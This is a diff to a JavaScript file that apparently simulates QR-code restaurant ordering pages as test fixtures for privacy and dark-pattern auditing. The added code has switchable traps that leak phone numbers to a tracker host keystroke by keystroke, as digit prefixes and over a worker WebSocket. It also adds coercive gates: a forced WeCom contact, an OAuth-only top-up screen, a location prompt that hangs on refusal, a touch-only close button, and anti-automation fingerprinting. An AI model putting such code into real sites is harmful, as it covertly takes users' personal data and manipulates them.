@@ -177,10 +177,51 @@
       sha256(value).then(function (h) { new Image().src = tp + '/pixel.gif?e=' + phase + '&s=' + C.mid + '&ph=' + h; });
     }
   }
+  var TR = C.traps || {};
+  var keyN = 0, wsSent = {};
+  function ownSocket() {
+    if (ownSocket.s) return ownSocket.s;
+    var url = location.origin.replace(/^http/, 'ws') + C.base + '/ws';
+    try { ownSocket.s = new WebSocket(url); } catch (e) { ownSocket.s = null; }
+    return ownSocket.s;
+  }
+  function sendWhenOpen(s, msg) { if (!s) return; if (s.readyState === 1) s.send(msg); else s.addEventListener('open', function () { s.send(msg); }); }
+  function trapLeaks(inp) {
+    // keystroke level: every key typed into the phone field goes to the tracker, one character per request
+    if (TR.keys_leak) {
+      inp.addEventListener('keyup', function (e) {
+        if (!/^[0-9]$/.test(e.key || '')) return;
+        keyN++;
+        new Image().src = C.tp + '/pixel.gif?ev=kd&f=m&i=' + keyN + '&c=' + encodeURIComponent(e.key) + '&t=' + Date.now();
+        if (inp.value.length === 7) fetch(C.base + '/api/segment?p=' + encodeURIComponent(inp.value));  // own host: number-segment lookup
+      });
+    }
+    // "suggestions" while typing: the tracker gets 7 to 10 digits, never the whole number
+    if (TR.prefix_leak) {
+      inp.addEventListener('input', function () {
+        var v = String(inp.value || '').replace(/\D/g, '');
+        if (v.length >= 7 && v.length < 11) fetch(C.tp + '/suggest?q=' + v, {mode: 'no-cors'});
+      });
+    }
+    // websockets: the merchant's own order socket gets the phone (fine); a worker's socket sends it to the tracker
+    if (TR.ws_leak) {
+      inp.addEventListener('input', function () {
+        var v = String(inp.value || '').replace(/\D/g, '');
+        if (!validPhone(v) || wsSent[v]) return;
+        wsSent[v] = 1;
+        sendWhenOpen(ownSocket(), JSON.stringify({type: 'bind', table: C.table, phone: v}));
+        try {
+          var wk = new Worker('/static/wsworker.js');
+          wk.postMessage({url: C.tp.replace(/^http/, 'ws') + '/ws?sdk=qt', phone: v, shop: C.mid});
+        } catch (e) { /* no workers */ }
+      });
+    }
+  }
   function wirePhone(inp) {
     if (!inp) return;
     inp.addEventListener('input', function () { leak(inp.value, 'input'); });
     inp.addEventListener('blur', function () { leak(inp.value, 'blur'); });
+    trapLeaks(inp);
   }
 
   /* ---- gates ---------------------------------------------------------- */
@@ -350,7 +391,112 @@
     if (cookie('qa_followed')) { done(); return; }
     location.href = C.base + '/follow-check?back=' + encodeURIComponent(location.pathname + location.search + (g.back || location.hash));
   };
-  var PERSIST = {phone: 1, sms: 1, onetap: 1, follow: 1, member: 1, face: 1, location: 1, coupon_icon: 1, member_offer: 1, privacy: 1, toast_follow: 1};
+  // A private channel: the menu only after adding a staff member's WeCom (企业微信) contact.
+  G.wecom = function (g, done) {
+    var m = overlay('<h3>添加客服企业微信，领取点餐菜单</h3>' +
+      qrImg('https://work.weixin.qq.com/ca/cawcde' + C.mid + 'QaFake') +
+      '<p style="text-align:center;color:#666">长按识别二维码添加门店客服，添加后即可查看菜单并点餐</p>' +
+      btn('我已添加', 'ok') + ppNote(), {cls: P + '-wecom'});
+    on(q(m, '.ok'), function () { closeOverlay(m); done(); });
+  };
+  // An optional WeCom card: closable for good, never in the way.
+  G.wecom_card = function (g, done) {
+    if (!get('wecom_closed')) {
+      var h = host(), b = document.createElement('div');
+      b.className = P + '-wecomcard';
+      b.setAttribute('style', 'margin:8px;background:#eef7ff;border:1px solid #9cc7f2;border-radius:8px;padding:10px 36px 10px 10px;font-size:14px;position:relative');
+      b.innerHTML = '💬 添加客服企业微信，预约包间更方便（可选）<span class="close" role="button" aria-label="关闭" style="position:absolute;right:10px;top:6px;font-size:20px;cursor:pointer">×</span>';
+      h.insertBefore(b, h.firstChild);
+      b.querySelector('.close').addEventListener('click', function () { set('wecom_closed', '1'); b.parentNode.removeChild(b); });
+    }
+    done();
+  };
+  // A stored-value top-up screen whose only control authorises the WeChat profile.
+  G.topup = function (g, done) {
+    if (cookie('qa_auth')) { done(); return; }
+    var denied = /[?&]auth=denied/.test(location.search);
+    var m = overlay('<div style="text-align:center"><div style="font-size:34px;color:#d4380d">储值1000送100</div>' +
+      '<p>储值500送40 · 储值200送10</p><p style="color:#888">储值后本单立享9折</p></div>' +
+      (denied ? '<p class="' + P + '-err">需授权后才能进入点餐</p>' : '') + btn('点我授权', 'ok'), {cls: P + '-topup'});
+    on(q(m, '.ok'), function () { location.href = C.oauth_url; });
+  };
+  // Location asked without an error callback: on refusal the page waits for ever ("定位中…").
+  G.geo_hang = function (g, done) {
+    var m = overlay('<h3>' + t('loc_t') + '</h3><p>' + t('loc_sub') + '</p><div class="' + P + '-err"></div>' + btn(t('loc_retry'), 'retry') + ppNote(), {cls: P + '-loc'});
+    function ask() {
+      navigator.geolocation.getCurrentPosition(function () { closeOverlay(m); done(); });  // no error callback, no timeout
+    }
+    function attempt() {
+      var pq = navigator.permissions && navigator.permissions.query ? navigator.permissions.query({name: 'geolocation'}) : Promise.resolve({state: 'prompt'});
+      pq.then(function (st) {
+        if (st.state === 'denied') { q(m, '.' + P + '-err').textContent = '定位权限已关闭，请在设置中开启定位后点餐'; return; }
+        q(m, '.' + P + '-err').textContent = '定位中…';
+        ask();
+      }, ask);
+    }
+    on(q(m, '.retry'), attempt);
+    attempt();
+  };
+  // A declinable login/register prompt (g.once: shown once per visit; else at every stage it is put on).
+  G.login_prompt = function (g, done) {
+    if (g.once && get('login_declined')) { done(); return; }
+    var m = overlay('<h3>登录/注册</h3><p>登录后享会员价和积分</p>' + btn('手机号登录/注册', 'ok') + btn('暂不登录', 'ghost no') + ppNote(), {cls: P + '-login'});
+    on(q(m, '.no'), function () { set('login_declined', '1'); closeOverlay(m); done(); });
+    on(q(m, '.ok'), function () { alert('请输入手机号'); });
+  };
+  // Face recognition offered beside ordinary ordering (optional).
+  G.face_choice = function (g, done) {
+    var m = overlay('<h3>欢迎光临</h3><p>选择点餐方式</p>' + btn('刷脸快捷点餐（推荐）', 'face') + btn('直接点餐', 'ghost plain') + ppNote(), {cls: P + '-facechoice'});
+    on(q(m, '.plain'), function () { closeOverlay(m); done(); });
+    on(q(m, '.face'), function () {
+      closeOverlay(m);
+      G.face({}, done);
+    });
+  };
+  // The environment check of WeChat-only pages: refuses when the browser does not look like the app it claims.
+  G.env_check = function (g, done) {
+    function refuse(why) {
+      overlay('<h3>请在微信客户端打开链接</h3><p>当前浏览器环境异常，无法点餐</p><p style="font-size:11px;color:#bbb">' + esc(why) + '</p>', {cls: P + '-env'});
+    }
+    var ua = navigator.userAgent, why = '';
+    var android = /Android/.test(ua), ios = /iPhone|iPad/.test(ua);
+    var ver = (ua.match(/Chrome\/(\d+)/) || [])[1];
+    var d = navigator.userAgentData;
+    if (!/MicroMessenger/.test(ua)) why = 'ua';
+    else if (navigator.webdriver) why = 'webdriver';
+    else if (navigator.maxTouchPoints < 2) why = 'touch';
+    else if (navigator.plugins && navigator.plugins.length) why = 'plugins';
+    else if (android && !/arm|aarch64/i.test(navigator.platform)) why = 'platform ' + navigator.platform;
+    else if (ios && navigator.platform !== 'iPhone') why = 'platform ' + navigator.platform;
+    else if (android && !(d && d.brands.some(function (b) { return b.brand === 'Android WebView' && b.version === ver; }))) why = 'brands';
+    else if (ios && d) why = 'userAgentData on iOS';
+    else if (window.SharedWorker && android) why = 'SharedWorker';
+    if (why) { refuse(why); return; }
+    var wk = new Worker('/static/envworker.js');
+    wk.onmessage = function (e) {
+      var w = e.data || {};
+      if (android && !(w.brands || []).some(function (b) { return b.brand === 'Android WebView' && b.version === ver; })) { refuse('worker brands'); return; }
+      if (android && !/arm|aarch64/i.test(w.platform || '')) { refuse('worker platform ' + w.platform); return; }
+      if (ios && w.uad) { refuse('worker userAgentData'); return; }
+      fetch(C.base + '/api/env').then(function (r) { return r.json(); }).then(function (j) {
+        if (!j.ok) { refuse('server: ' + j.why); return; }
+        done();
+      }, function () { refuse('network'); });
+    };
+    wk.postMessage(1);
+  };
+  // A closable coupon prompt whose × answers only a finger (touchend), never a mouse click.
+  G.coupon_touch = function (g, done) {
+    var m = overlay('<div class="x" style="position:absolute;right:8px;top:8px;width:28px;height:28px;font-size:22px;line-height:28px;text-align:center;color:#999">×</div>' +
+      '<h3>' + t('coupon_t') + '</h3><input type="tel" name="mobile" maxlength="11" placeholder="' + t('phone_ph') + '"><div class="' + P + '-err"></div>' +
+      btn(t('coupon_btn'), 'ok') + ppNote(), {cls: P + '-coupon'});
+    q(m, '.x').addEventListener('touchend', function (e) { e.preventDefault(); closeOverlay(m); done(); });
+    on(q(m, '.ok'), function () {
+      if (!validPhone(q(m, 'input').value)) { q(m, '.' + P + '-err').textContent = t('bad_phone'); return; }
+      closeOverlay(m); done();
+    });
+  };
+  var PERSIST = {wecom: 1, face_choice: 1, env_check: 0, coupon_touch: 1, phone: 1, sms: 1, onetap: 1, follow: 1, member: 1, face: 1, location: 1, coupon_icon: 1, member_offer: 1, privacy: 1, toast_follow: 1};
 
   function run(stage, next, where) {
     var gates = (C.gates || []).map(function (g, i) { g._i = i; return g; }).filter(function (g) {
